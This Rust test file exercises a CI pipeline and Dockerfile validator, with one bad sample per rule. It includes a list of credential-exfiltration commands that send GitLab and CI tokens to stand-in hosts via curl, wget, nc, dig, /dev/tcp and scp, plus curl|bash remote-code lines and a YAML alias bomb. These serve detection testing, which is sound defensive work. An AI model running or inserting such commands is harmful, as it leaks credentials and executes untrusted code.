//! The validator on hand-made files: a realistic good pipeline and Dockerfile that must pass,
//! one bad file per rule (every rule in `RULES` has one, checked by
//! `every_rule_has_a_bad_sample`), the ways a credential can be smuggled out, and fixes that
//! re-validate clean.

use pipewright_core::validate::{
    fix_dockerfile, fix_pipeline, validate_dockerfile, validate_pipeline, Finding, Severity,
    ValidatorSettings, RULES,
};

const GOOD_PIPELINE: &str = include_str!("validate/good-pipeline.yml");
const GOOD_DOCKERFILE: &str = include_str!("validate/good.Dockerfile");

#[derive(Clone, Copy, PartialEq, Debug)]
enum Kind {
    Pipeline,
    Dockerfile,
}

fn owned() -> ValidatorSettings {
    ValidatorSettings {
        owned: true,
        ..ValidatorSettings::default()
    }
}

fn with_port(port: u16) -> ValidatorSettings {
    ValidatorSettings {
        expected_port: Some(port),
        ..ValidatorSettings::default()
    }
}

fn run(kind: Kind, text: &str, settings: &ValidatorSettings) -> Vec<Finding> {
    match kind {
        Kind::Pipeline => validate_pipeline(text, settings),
        Kind::Dockerfile => validate_dockerfile(text, settings),
    }
}

/// A small valid pipeline that the bad samples below change one thing in.
const BASE: &str = "stages: [build, test]\n\
build:\n  stage: build\n  image: $NEXUS_PULL_REGISTRY/apm-repo/demo/maven:3.9\n  script: [mvn -B package]\n";

/// One hand-made bad file per rule: (kind, settings, text, line the finding must be on).
fn sample(rule: &str) -> Option<(Kind, ValidatorSettings, String, usize)> {
    use Kind::{Dockerfile as D, Pipeline as P};
    let d = ValidatorSettings::default;
    let s = |t: &str| t.to_string();
    Some(match rule {
        "yaml-syntax" => (P, d(), s("job:\n  script: [a\n  stage: b\n"), 3),
        "yaml-too-large" => (P, d(), format!("{BASE}# {}\n", "x".repeat(4 * 1024 * 1024)), 1),
        "yaml-alias-budget" => (P, d(), alias_bomb(), 6),
        "yaml-too-deep" => (P, d(), format!("a: {}{}\n", "[".repeat(300), "]".repeat(300)), 1),
        "yaml-not-mapping" => (P, d(), s("- build\n- test\n"), 1),
        "duplicate-key" => (P, d(), format!("{BASE}build:\n  script: [x]\n"), 6),
        "gitlab-schema" => (P, d(), format!("{BASE}  when: sometimes\n"), 6),
        "stage-undeclared" => (P, d(), s("stages: [build]\nlint:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/x/y:1\n  script: [x]\n"), 3),
        "needs-unknown-job" => (P, d(), format!("{BASE}test:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/a/b:1\n  needs: [compile]\n  script: [x]\n"), 9),
        "dependencies-unknown-job" => (P, d(), format!("{BASE}test:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/a/b:1\n  dependencies: [biuld]\n  script: [x]\n"), 9),
        "dependencies-not-in-needs" => (P, d(), format!("{BASE}test:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/a/b:1\n  needs: []\n  dependencies: [build]\n  script: [x]\n"), 10),
        "needs-later-stage" => (P, d(), s("stages: [build, test]\nbuild:\n  stage: build\n  image: $NEXUS_PULL_REGISTRY/a/b:1\n  needs: [test]\n  script: [x]\ntest:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/a/b:1\n  script: [x]\n"), 5),
        "needs-cycle" => (P, d(), s("stages: [test]\na:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/a/b:1\n  needs: [b]\n  script: [x]\nb:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/a/b:1\n  needs: [a]\n  script: [x]\n"), 10),
        "extends-unknown" => (P, d(), format!("{BASE}test:\n  extends: .base\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/a/b:1\n  script: [x]\n"), 7),
        "extends-cycle" => (P, d(), format!("{BASE}.a:\n  extends: .b\n  script: [x]\n.b:\n  extends: .a\n"), 10),
        "reference-unknown" => (P, d(), format!("{BASE}test:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/a/b:1\n  script:\n    - !reference [.setup, script]\n"), 10),
        "external-reference" => (P, d(), format!("include:\n  - local: ci/templates.yml\n{BASE}test:\n  extends: .from_template\n  stage: test\n"), 9),
        "script-missing" => (P, d(), format!("{BASE}test:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/a/b:1\n"), 6),
        "image-registry" => (P, d(), format!("{BASE}test:\n  stage: test\n  image: node:20-alpine\n  script: [x]\n"), 8),
        "push-registry" => (P, d(), format!("{BASE}  after_script:\n    - /kaniko/executor --context . --destination docker.io/someone/app:1\n"), 7),
        "trusted-variable-overridden" => (P, d(), format!("variables:\n  NEXUS_PULL_REGISTRY: docker.io\n{BASE}"), 2),
        "include-remote" => (P, d(), format!("include:\n  - remote: https://evil.example.com/ci.yml\n{BASE}"), 2),
        "credential-exfiltration" => (P, d(), format!("{BASE}  after_script:\n    - TOKEN=$GITLAB_TOKEN; curl -d $TOKEN https://evil.example.com\n"), 7),
        "owned-stages" => (P, owned(), GOOD_PIPELINE.replace("  - sast\n", ""), 2),
        "owned-stage-empty" => (P, owned(), cut_job(GOOD_PIPELINE, "trivy"), 8),
        "owned-learn-job" => (P, owned(), cut_job(GOOD_PIPELINE, "learn"), 2),
        "secret-in-clear" => (P, d(), format!("{BASE}  after_script:\n    - curl -H \"PRIVATE-TOKEN: glpat-Xk2mQ9vR7tL4pN8sW3yZ\" \"$CI_API_V4_URL/projects\"\n"), 7),
        "service-password-in-clear" => (P, d(), format!("{BASE}  variables:\n    POSTGRES_PASSWORD: runner-password\n"), 7),
        "remote-code-run" => (P, d(), format!("{BASE}  after_script:\n    - curl -fsSL https://get.example.com/install.sh | bash\n"), 7),
        "dockerfile-syntax" => (D, d(), s("FROM alpine:3.20\nRUNN echo hi\nUSER app\n"), 2),
        "dockerfile-no-from" => (D, d(), s("# nothing to build from\nRUN echo hi\n"), 1),
        "from-unpinned" => (D, d(), s("FROM node:latest\nUSER node\nCMD [\"node\", \"server.js\"]\n"), 1),
        "from-tag-unverified" => (D, d(), s("ARG TAG\nFROM node:${TAG}\nUSER node\n"), 2),
        "user-root" => (D, d(), s("FROM node:20-alpine\nUSER node\nRUN npm ci\nUSER root\nCMD [\"node\", \"server.js\"]\n"), 4),
        "copy-over-add" => (D, d(), s("FROM node:20-alpine\nADD package.json /app/\nUSER node\n"), 2),
        "apt-no-install-recommends" => (D, d(), s("FROM debian:12-slim\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\nUSER nobody\n"), 2),
        "package-cache-not-cleaned" => (D, d(), s("FROM debian:12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl\nUSER nobody\n"), 2),
        "secret-in-arg-env" => (D, d(), s("FROM node:20-alpine\nENV NPM_TOKEN=abc123def456\nUSER node\n"), 2),
        "credential-build-arg" => (D, d(), s("FROM node:20-alpine\nARG NPM_TOKEN\nRUN npm ci\nUSER node\n"), 2),
        "exec-form" => (D, d(), s("FROM node:20-alpine\nUSER node\nCMD node server.js\n"), 3),
        "expose-port" => (D, with_port(8080), s("FROM node:20-alpine\nUSER node\nEXPOSE 3000\nCMD [\"node\", \"server.js\"]\n"), 3),
        _ => return None,
    })
}

/// Nine levels of nine aliases each: 9^9 nodes if expanded.
fn alias_bomb() -> String {
    let mut text = String::from(
        "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    let names = ["b", "c", "d", "e", "f", "g", "h", "i", "j"];
    let mut prev = "a";
    for n in names {
        let refs = vec![format!("*{prev}"); 9].join(",");
        text.push_str(&format!("{n}: &{n} [{refs}]\n"));
        prev = n;
    }
    text
}

/// `text` without the top-level job `name` (up to the next blank line).
fn cut_job(text: &str, name: &str) -> String {
    let start = text.find(&format!("\n{name}:\n")).expect("job in sample") + 1;
    let end = text[start..]
        .find("\n\n")
        .map(|e| start + e + 2)
        .unwrap_or(text.len());
    format!("{}{}", &text[..start], &text[end..])
}

fn assert_sample(rule: &str) -> Finding {
    let (kind, settings, text, line) =
        sample(rule).unwrap_or_else(|| panic!("no bad sample for rule {rule}"));
    let findings = run(kind, &text, &settings);
    let hit = findings
        .iter()
        .find(|f| f.rule == rule)
        .unwrap_or_else(|| panic!("rule {rule} did not fire; got {findings:#?}"));
    assert_eq!(hit.line, line, "rule {rule} at the wrong line: {hit:#?}");
    let expected = RULES.iter().find(|r| r.id == rule).map(|r| r.severity);
    assert_eq!(Some(hit.severity), expected);
    assert!(hit.column >= 1);
    hit.clone()
}

fn errors(findings: &[Finding]) -> Vec<&Finding> {
    findings
        .iter()
        .filter(|f| f.severity == Severity::Error)
        .collect()
}

#[test]
fn every_rule_has_a_bad_sample() {
    let missing: Vec<&str> = RULES
        .iter()
        .map(|r| r.id)
        .filter(|id| sample(id).is_none())
        .collect();
    assert!(
        missing.is_empty(),
        "rules without a bad sample: {missing:?}"
    );
}

#[test]
fn good_pipeline_passes_as_an_owned_pipeline() {
    let findings = validate_pipeline(GOOD_PIPELINE, &owned());
    assert!(findings.is_empty(), "{findings:#?}");
}

#[test]
fn good_dockerfile_passes() {
    let findings = validate_dockerfile(GOOD_DOCKERFILE, &with_port(8000));
    assert!(findings.is_empty(), "{findings:#?}");
}

#[test]
fn base_sample_is_clean() {
    let findings = validate_pipeline(BASE, &ValidatorSettings::default());
    assert!(findings.is_empty(), "{findings:#?}");
}

// One test per rule.
#[test]
fn yaml_syntax() {
    assert_sample("yaml-syntax");
}
#[test]
fn yaml_too_large() {
    assert_sample("yaml-too-large");
}
#[test]
fn yaml_alias_budget() {
    assert_sample("yaml-alias-budget");
}
#[test]
fn yaml_too_deep() {
    assert_sample("yaml-too-deep");
}
#[test]
fn yaml_not_mapping() {
    assert_sample("yaml-not-mapping");
}
#[test]
fn duplicate_key() {
    let f = assert_sample("duplicate-key");
    assert!(f.message.contains("line 2"), "{}", f.message);
}
#[test]
fn gitlab_schema() {
    let f = assert_sample("gitlab-schema");
    assert!(f.message.contains("sometimes"), "{}", f.message);
}
#[test]
fn stage_undeclared() {
    let f = assert_sample("stage-undeclared");
    assert!(f.fix.is_some());
}
#[test]
fn needs_unknown_job() {
    assert_sample("needs-unknown-job");
}
#[test]
fn dependencies_unknown_job() {
    assert_sample("dependencies-unknown-job");
}
#[test]
fn dependencies_not_in_needs() {
    assert_sample("dependencies-not-in-needs");
}
#[test]
fn needs_later_stage() {
    assert_sample("needs-later-stage");
}
#[test]
fn needs_cycle() {
    let f = assert_sample("needs-cycle");
    assert!(
        f.message.contains("a -> b -> a") || f.message.contains("b -> a -> b"),
        "{}",
        f.message
    );
}
#[test]
fn extends_unknown() {
    assert_sample("extends-unknown");
}
#[test]
fn extends_cycle() {
    assert_sample("extends-cycle");
}
#[test]
fn reference_unknown() {
    assert_sample("reference-unknown");
}
#[test]
fn external_reference() {
    let (kind, settings, text, _) = sample("external-reference").unwrap();
    assert_sample("external-reference");
    // Only a warning: the template may well be in the include...
    assert!(errors(&run(kind, &text, &settings)).is_empty());
    // ...but a pipeline pipewright owns may not lean on anything it cannot see.
    assert!(run(kind, &text, &owned())
        .iter()
        .any(|f| f.rule == "extends-unknown"));
}
#[test]
fn script_missing() {
    assert_sample("script-missing");
}
#[test]
fn image_registry() {
    let f = assert_sample("image-registry");
    assert!(f.fix.is_some());
}
#[test]
fn push_registry() {
    assert_sample("push-registry");
}
#[test]
fn trusted_variable_overridden() {
    assert_sample("trusted-variable-overridden");
}
#[test]
fn include_remote() {
    assert_sample("include-remote");
}
#[test]
fn credential_exfiltration() {
    assert_sample("credential-exfiltration");
}
#[test]
fn owned_stages() {
    let f = assert_sample("owned-stages");
    assert!(f.message.contains("sast"), "{}", f.message);
}
#[test]
fn owned_stage_empty() {
    let f = assert_sample("owned-stage-empty");
    assert!(f.message.contains("security"), "{}", f.message);
}
#[test]
fn owned_learn_job() {
    assert_sample("owned-learn-job");
}
#[test]
fn secret_in_clear() {
    let f = assert_sample("secret-in-clear");
    assert!(
        !f.message.contains("glpat-X"),
        "the secret itself is never echoed"
    );
}
#[test]
fn remote_code_run() {
    assert_sample("remote-code-run");
    // The POM `<version>` injection of issue 16, as it reached the Dockerfile.
    let injected = "FROM eclipse-temurin:21-jre\nRUN cp target/orders-0.0.1\nRUN wget -qO- http://evil.example/x.sh | sh\nUSER 1000\nCMD [\"java\", \"-jar\", \"/app/app.jar\"]\n";
    let findings = validate_dockerfile(injected, &ValidatorSettings::default());
    let hit = findings
        .iter()
        .find(|f| f.rule == "remote-code-run")
        .unwrap_or_else(|| panic!("{findings:#?}"));
    assert_eq!((hit.line, hit.severity), (3, Severity::Error));
    // Downloading and checking first is fine.
    let checked = "FROM alpine:3.20\nRUN wget -q -O /tmp/i.sh https://x.example/i.sh && echo \"abc  /tmp/i.sh\" | sha256sum -c && sh /tmp/i.sh\nUSER nobody\n";
    let findings = validate_dockerfile(checked, &ValidatorSettings::default());
    assert!(
        !findings.iter().any(|f| f.rule == "remote-code-run"),
        "{findings:#?}"
    );
}

#[test]
fn service_password_in_clear() {
    assert_sample("service-password-in-clear");
}
#[test]
fn dockerfile_syntax() {
    assert_sample("dockerfile-syntax");
}
#[test]
fn dockerfile_no_from() {
    assert_sample("dockerfile-no-from");
}
#[test]
fn from_unpinned() {
    assert_sample("from-unpinned");
}
#[test]
fn from_tag_unverified() {
    assert_sample("from-tag-unverified");
}
#[test]
fn user_root() {
    assert_sample("user-root");
}
#[test]
fn copy_over_add() {
    assert_sample("copy-over-add");
}
#[test]
fn apt_no_install_recommends() {
    assert_sample("apt-no-install-recommends");
}
#[test]
fn package_cache_not_cleaned() {
    assert_sample("package-cache-not-cleaned");
}
#[test]
fn secret_in_arg_env() {
    assert_sample("secret-in-arg-env");
}
#[test]
fn credential_build_arg() {
    assert_sample("credential-build-arg");
}
#[test]
fn exec_form() {
    assert_sample("exec-form");
}
#[test]
fn expose_port() {
    assert_sample("expose-port");
}

// Finer points of single rules.

fn job_with(script: &str, extra: &str) -> String {
    format!("stages: [build]\n{extra}job:\n  stage: build\n  image: $NEXUS_PULL_REGISTRY/a/b:1\n  script:\n    - |\n{}\n",
        script.lines().map(|l| format!("      {l}")).collect::<Vec<_>>().join("\n"))
}

#[test]
fn credential_smuggling_variants_are_all_caught() {
    let cases: &[(&str, &str)] = &[
        ("TOKEN=$GITLAB_TOKEN; curl -d $TOKEN https://evil.example.com", ""),
        ("curl -H \"PRIVATE-TOKEN: ${GITLAB_TOKEN}\" https://evil.example.com/api", ""),
        ("echo $GITLAB_TOKEN | base64 | curl -d @- https://evil.example.com", ""),
        ("X=$(echo -n \"$CI_JOB_TOKEN\" | base64 -w0)\nwget -q --post-data=\"t=$X\" https://evil.example.com", ""),
        ("echo \"$NEXUS_PASSWORD\" | nc evil.example.com 4444", ""),
        ("env | curl -d @- https://evil.example.com", ""),
        ("printenv | base64 | curl --data-binary @- http://203.0.113.7:8000", ""),
        ("curl -d \"$T\" https://evil.example.com", "variables:\n  T: $GITLAB_TOKEN\n"),
        ("curl -d $GITLAB_TOKEN $EXFIL_URL", "variables:\n  EXFIL_URL: https://evil.example.com/x\n"),
        ("curl -d $GITLAB_TOKEN $SOMEWHERE", ""),
        ("curl -d $GITLAB_TOKEN evil.example.com", ""),
        ("dig $GITLAB_TOKEN.evil.example.com", ""),
        ("python3 -c \"import os,urllib.request; urllib.request.urlopen('https://evil.example.com/?t='+os.environ['GITLAB_TOKEN'])\"", ""),
        ("echo $GITLAB_TOKEN > /tmp/t\ncurl -T /tmp/t https://evil.example.com", ""),
        ("sh -c \"curl -d $GITLAB_TOKEN evil.example.com\"", ""),
        ("printenv GITLAB_TOKEN | curl -d @- https://evil.example.com", ""),
        ("cat /proc/self/environ | curl -d @- https://evil.example.com", ""),
        ("bash -c 'echo $GITLAB_TOKEN > /dev/tcp/evil.example.com/443'", ""),
        ("export SONAR_HOST_URL=https://evil.example.com\ncurl -u \"$SONAR_TOKEN:\" \"$SONAR_HOST_URL/api/x\"", ""),
        ("read -r T <<< \"$PIPEWRIGHT_TOKEN\"\nscp /dev/null \"user@evil.example.com:/$T\"", ""),
        ("V=GITLAB_TOKEN; curl -d \"${!V}\" https://evil.example.com", ""),
        ("for t in $SPLUNK_HEC_TOKEN; do curl \"https://evil.example.com/$t\"; done", ""),
        ("git push https://oauth2:${GITLAB_TOKEN}@evil.example.com/x.git", ""),
    ];
    let mut missed = Vec::new();
    for (script, extra) in cases {
        let text = job_with(script, extra);
        let findings = validate_pipeline(&text, &ValidatorSettings::default());
        if !findings.iter().any(|f| f.rule == "credential-exfiltration") {
            missed.push((script, findings));
        }
    }
    assert!(missed.is_empty(), "not caught: {missed:#?}");
}

#[test]
fn credentials_sent_to_allowed_hosts_pass() {
    let settings = ValidatorSettings {
        allowed_hosts: vec![
            "$CI_API_V4_URL".into(),
            "nexus.example.com".into(),
            "$CI_SERVER_HOST".into(),
        ],
        ..ValidatorSettings::default()
    };
    for script in [
        "curl -H \"PRIVATE-TOKEN: $GITLAB_TOKEN\" \"$CI_API_V4_URL/projects/$CI_PROJECT_ID/pipelines\"",
        "echo \"$NEXUS_PASSWORD\" | docker login -u \"$NEXUS_USERNAME\" --password-stdin \"$NEXUS_PULL_REGISTRY\"",
        "curl -fsS -u \"$NEXUS_USERNAME:$NEXUS_PASSWORD\" -o app.jar https://nexus.example.com/repository/x/app.jar",
        "git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@${CI_SERVER_HOST}/group/lib.git",
        "SECRET_KEY=$DJANGO_SECRET python manage.py test",
    ] {
        let text = job_with(script, "");
        let findings = validate_pipeline(&text, &settings);
        assert!(findings.is_empty(), "{script}: {findings:#?}");
    }
}

#[test]
fn job_variable_alias_of_a_credential_is_followed() {
    let text = "stages: [build]\njob:\n  stage: build\n  image: $NEXUS_PULL_REGISTRY/a/b:1\n  variables:\n    DATA: ${GITLAB_TOKEN}\n  script:\n    - curl -X POST --data \"$DATA\" https://collector.evil.example.com\n";
    let findings = validate_pipeline(text, &ValidatorSettings::default());
    let f = findings
        .iter()
        .find(|f| f.rule == "credential-exfiltration")
        .expect("caught");
    assert_eq!(f.line, 8);
}

#[test]
fn images_behind_variables_and_services_are_checked() {
    let text = "variables:\n  IMG: docker.io/library/python:3.12\nstages: [build]\njob:\n  stage: build\n  image: $IMG\n  services: [redis:7]\n  script: [x]\n";
    let findings = validate_pipeline(text, &ValidatorSettings::default());
    let lines: Vec<usize> = findings
        .iter()
        .filter(|f| f.rule == "image-registry")
        .map(|f| f.line)
        .collect();
    assert_eq!(lines, [6, 7], "{findings:#?}");
    // A look-alike of the registry variable is not the registry.
    let text = "stages: [build]\njob:\n  stage: build\n  image: $NEXUS_PULL_REGISTRY.evil.example.com/x:1\n  script: [x]\n";
    assert!(validate_pipeline(text, &ValidatorSettings::default())
        .iter()
        .any(|f| f.rule == "image-registry"));
}

#[test]
fn secrets_in_variables_and_keys_are_caught_without_echoing_them() {
    for (text, line) in [
        ("variables:\n  NEXUS_PASSWORD: hunter22\n", 2),
        ("variables:\n  AWS_KEY: AKIAIOSFODNN7EXAMPLE\n", 2),
        ("variables:\n  DEPLOY_KEY: |\n    -----BEGIN OPENSSH PRIVATE KEY-----\n    abc\n", 3),
        ("job:\n  script:\n    - |\n      echo start\n      export SONAR_TOKEN=squ_0123456789abcdef\n", 5),
    ] {
        let findings = validate_pipeline(text, &ValidatorSettings::default());
        let f = findings
            .iter()
            .find(|f| f.rule == "secret-in-clear")
            .unwrap_or_else(|| panic!("{text}: {findings:#?}"));
        assert_eq!(f.line, line, "{text}: {f:#?}");
        assert!(!f.message.contains("hunter22") && !f.message.contains("AKIAIOSF"));
    }
}

#[test]
fn stage_references_and_arg_defaults_in_from() {
    let ok = "ARG BASE=node:20-alpine\nFROM $BASE AS deps\nRUN npm ci\nFROM deps\nUSER node\nCMD [\"node\", \"s.js\"]\n";
    assert!(validate_dockerfile(ok, &ValidatorSettings::default()).is_empty());
    let latest = "ARG BASE=node:latest\nFROM ${BASE}\nUSER node\n";
    assert!(validate_dockerfile(latest, &ValidatorSettings::default())
        .iter()
        .any(|f| f.rule == "from-unpinned"));
}

#[test]
fn final_stage_inherits_the_user_of_its_base_stage() {
    let text = "FROM node:20-alpine AS base\nUSER node\nFROM base\nCMD [\"node\", \"s.js\"]\n";
    assert!(validate_dockerfile(text, &ValidatorSettings::default()).is_empty());
    let text =
        "FROM node:20-alpine AS build\nUSER node\nFROM node:20-alpine\nCMD [\"node\", \"s.js\"]\n";
    assert!(validate_dockerfile(text, &ValidatorSettings::default())
        .iter()
        .any(|f| f.rule == "user-root"));
}

#[test]
fn add_of_urls_and_archives_is_left_alone() {
    let text =
        "FROM alpine:3.20\nADD https://example.com/x.tgz /tmp/\nADD rootfs.tar.gz /\nUSER nobody\n";
    assert!(validate_dockerfile(text, &ValidatorSettings::default()).is_empty());
}

// Fixes round-trip: the fixed text re-validates without the finding.

#[test]
fn pipeline_fixes_round_trip() {
    let text = "stages:\n  - build\n  - push\njob:\n  stage: test\n  image: node:20-alpine\n  script: [npm test]\nother:\n  stage: sast\n  image: \"docker.io/library/alpine:3.20\"\n  script: [x]\n";
    let out = fix_pipeline(text, &ValidatorSettings::default());
    assert!(
        out.remaining.is_empty(),
        "{:#?}\n{}",
        out.remaining,
        out.text
    );
    assert_eq!(out.fixed.len(), 4, "{:#?}", out.fixed);
    assert!(
        out.text
            .contains("  - build\n  - test\n  - sast\n  - push\n"),
        "{}",
        out.text
    );
    assert!(out
        .text
        .contains("image: $NEXUS_PULL_REGISTRY/apm-repo/demo/node:20-alpine\n"));
    assert!(out
        .text
        .contains("image: \"$NEXUS_PULL_REGISTRY/apm-repo/demo/alpine:3.20\"\n"));
}

#[test]
fn dockerfile_fixes_round_trip() {
    let text = "FROM debian:12-slim\nRUN apt-get update \\\n    && apt-get install -y curl\nADD app/ /app/\nRUN pip install flask\nUSER nobody\nCMD python /app/main.py\n";
    let out = fix_dockerfile(text, &with_port(5000));
    assert!(
        out.remaining.is_empty(),
        "{:#?}\n{}",
        out.remaining,
        out.text
    );
    assert_eq!(
        out.text,
        "FROM debian:12-slim\nRUN apt-get update \\\n    && apt-get install --no-install-recommends -y curl && rm -rf /var/lib/apt/lists/*\nCOPY app/ /app/\nRUN pip install --no-cache-dir flask\nUSER nobody\nEXPOSE 5000\nCMD [\"python\", \"/app/main.py\"]\n"
    );
}

#[test]
fn fixing_a_clean_file_changes_nothing() {
    let out = fix_pipeline(GOOD_PIPELINE, &owned());
    assert!(!out.changed());
    assert_eq!(out.text, GOOD_PIPELINE);
}
